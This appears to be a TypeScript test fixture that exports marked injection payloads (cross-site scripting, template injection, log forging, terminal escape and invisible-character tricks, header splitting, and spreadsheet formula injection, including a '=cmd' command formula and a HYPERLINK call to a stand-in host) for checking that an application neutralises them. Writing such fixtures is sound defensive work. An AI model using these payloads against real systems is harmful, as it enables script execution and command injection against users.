// Texts that want to act: in a page, a terminal, a log, a spreadsheet, an address. Each bears the mark, so that a test can tell that it is
// really there, and each that could reach out would reach for a host that does not exist.

/** Stands in every payload, and in nothing of ours. */
export const MARK = 'zqmark';
/** Elements that only a payload can make. */
export const MADE = '[data-zqmark], zqmark-x';

export const PAYLOADS: Readonly<Record<string, string>> = {
  script: `"><script data-zqmark src="//zqmark.example/a.js">window.zqmark=1</script>${MARK}`,
  handler: `'"><img data-zqmark src=x onerror="window.zqmark=1;alert('${MARK}')">`,
  svg: `<svg data-zqmark onload="window.zqmark=1"><a href="javascript:window.zqmark=1"><text>${MARK}</text></a></svg>`,
  closer: `</script></title></textarea></style></template>--><zqmark-x onclick=alert(1)>${MARK}`,
  frame: `<iframe data-zqmark srcdoc="<script>parent.zqmark=1</script>"></iframe><meta http-equiv=refresh content="0;url=//zqmark.example">`,
  address: `javascript:window.zqmark=1//${MARK}`,
  data: `data:text/html,<script>opener.zqmark=1</script>${MARK}`,
  elsewhere: `//zqmark.example/${MARK}`,
  backslash: `\\\\zqmark.example\\${MARK}`,
  template: `{{constructor.constructor('window.zqmark=1')()}}\${window.zqmark=1}#{7*7}<%= 7*7 %>`,
  markdown: `[${MARK}](javascript:window.zqmark=1) ![x](https://zqmark.example/x.png)`,
  lines: `${MARK}\n12:00:00.000 error zqforged code=internal\r\n\u2028zqforged\u2029zqforged\u0085zqforged`,
  ansi: `\u001b[2J\u001b[31m${MARK}\u001b]8;;http://zqmark.example\u0007link\u001b]8;;\u0007\u009b31m\u001b]0;title\u0007`,
  bidi: `${MARK}\u202egnp.exe\u2066\u2069\u200f\u061c\u200e`,
  unseen: `${MARK}\u0000\u200b\ufeff\u00ad\u{e0041}\u2060\u0008\u007f`,
  broken: `${MARK}\ud800 \udfff`,
  proto: `__proto__ constructor toString ${MARK}`,
  encoded: `${MARK}%00%0d%0aSet-Cookie:%20zqmark=1%1b%5b31m&lt;img data-zqmark&gt;`,
  formula: `=HYPERLINK("http://zqmark.example/"&A1,"${MARK}")`,
  command: `=cmd|'/C calc'!A0${MARK}`,
  plus: `+1+${MARK}`,
  minus: `-1+${MARK}`,
  at: `@SUM(1)${MARK}`,
  tabbed: `\t=1+1${MARK}`,
  returned: `\r=1+1${MARK}`,
  semicolon: `${MARK};=1+1;"=1+1`,
  wide: `＝1+1${MARK}`,
  quoted: `"=1+1","${MARK}`,
  long: `${MARK}${'x'.repeat(9000)}`,
};

/** What a payload becomes where only bytes of a header can pass: UTF-8 byte by byte, without what ends or breaks a header. */
export const inHeader = (text: string): string =>
  Buffer.from(text, 'utf8')
    .toString('latin1')
    .replace(/[^\t\x20-\x7e\x80-\xff]/g, ' ')
    .slice(0, 4000);

/** What hides, turns or breaks a text, or acts in a terminal. Line ends and tabs are for the one who asks. */
export const ACTING = /(?![\n\t])[\p{Cc}\p{Cf}\p{Zl}\p{Zp}\p{Cs}]/u;
